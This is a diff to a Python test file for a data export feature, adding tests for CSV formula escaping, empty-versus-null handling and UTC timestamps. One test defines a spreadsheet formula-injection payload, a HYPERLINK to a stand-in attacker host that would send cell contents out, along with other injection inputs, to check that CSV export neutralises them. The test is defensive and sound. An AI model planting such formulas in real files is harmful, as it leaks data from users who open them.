@@ -14,8 +14,9 @@ import pytest
 from api.database import open_database
 from api.event_types import Event
 from api.export import export
-from api.store import Ticket
+from api.store import Store, Ticket
 from api.tokens import Caller
+from tests.api.conftest import FakeClock
 
 ANA = Caller(user="ana", tenant="acme", roles=frozenset({"admin"}))
 TABLES = ["answer_feedback", "answers", "content_gaps", "daily_rollups", "events", "schema_version", "search_clicks",
@@ -89,3 +90,51 @@ def test_a_parquet_export_restores_into_a_fresh_store(busy_store, tmp_path):
     fresh.close()
     assert [(t.table, t.rows) for t in restored] == [(t.table, t.rows) for t in written]
     assert pq.read_table(tmp_path / "again/votes.parquet").equals(pq.read_table(tmp_path / "backup/votes.parquet"))
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"help")'
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_is_quoted_and_parquet_keeps_it_as_stored(busy_store, tmp_path):
+    store = busy_store
+    store.log_search("s2", Caller(), None, "@sum(a1)", "hybrid", 0, 1.0, [])  # a reader of no tenant, not signed in
+    asyncio.run(store.record_ticket(Ticket("T-2", "created", HOSTILE, "-2+3 stopped working", datetime(2026, 12, 1, 9, tzinfo=timezone.utc),
+                                           "+ana", "\ttab-2"), "acme"))
+    store.queue.write_now(lambda s: s.execute("INSERT INTO daily_rollups VALUES ('acme', DATE '2026-11-29', 'searches', -1)"))
+    export(store, tmp_path / "csv", "csv")
+    export(store, tmp_path / "parquet", "parquet")
+    with (tmp_path / "csv/tickets.csv").open(newline="") as file:
+        ticket = {t["ticket_id"]: t for t in csv.DictReader(file)}["T-2"]
+    assert (ticket["subject"], ticket["body"], ticket["user_id"], ticket["session_id"]) == \
+        ("'" + HOSTILE, "'-2+3 stopped working", "'+ana", "'\ttab-2")
+    with (tmp_path / "csv/searches.csv").open(newline="") as file:
+        assert {s["search_id"]: s["query"] for s in csv.DictReader(file)}["s2"] == "'@sum(a1)"
+    with (tmp_path / "csv/daily_rollups.csv").open(newline="") as file:
+        assert {r["day"]: r["value"] for r in csv.DictReader(file)}["2026-11-29"] == "-1.0"  # a number, not text
+    stored = {t["ticket_id"]: t for t in pq.read_table(tmp_path / "parquet/tickets.parquet").to_pylist()}["T-2"]
+    assert (stored["subject"], stored["user_id"], stored["session_id"]) == (HOSTILE, "+ana", "\ttab-2")
+
+
+def test_an_empty_text_and_a_null_differ_in_csv_from_either_database(busy_store, tmp_path):
+    busy_store.log_search("s2", Caller(), None, "boilers", "hybrid", 1, 1.0, [])  # tenant '', no user, no session
+    busy_store.queue.flush()
+    export(busy_store, tmp_path / "out", "csv")
+    line = next(x for x in (tmp_path / "out/searches.csv").read_text().splitlines() if x.startswith("s2,"))
+    assert line.split(",")[2:5] == ['""', "", ""]  # tenant '', user_id and session_id NULL, as DuckDB writes them
+    read_back = duckdb.sql(f"SELECT tenant, user_id FROM read_csv('{tmp_path / 'out/searches.csv'}', allow_quoted_nulls = false) "
+                          "WHERE search_id = 's2'")
+    assert read_back.fetchall() == [("", None)]
+
+
+def test_postgresql_csv_times_are_utc_whatever_the_session_time_zone(postgres_url, tmp_path):
+    berlin = postgres_url + ("&" if "?" in postgres_url else "?") + "options=-c%20TimeZone%3DEurope/Berlin"
+    store = Store(open_database(tmp_path / "var", berlin), clock=FakeClock(datetime(2026, 12, 1, 9, tzinfo=timezone.utc)))
+    try:
+        assert store.read(lambda s: s.execute("SHOW TimeZone")) == [("Europe/Berlin",)]
+        store.log_search("s1", ANA, "tab-1", "boilers", "hybrid", 1, 1.0, [])
+        store.queue.flush()
+        export(store, tmp_path / "out", "csv")
+    finally:
+        store.close()
+    with (tmp_path / "out/searches.csv").open(newline="") as file:
+        assert next(csv.DictReader(file))["created_at"] == "2026-12-01 09:00:00+00:00"
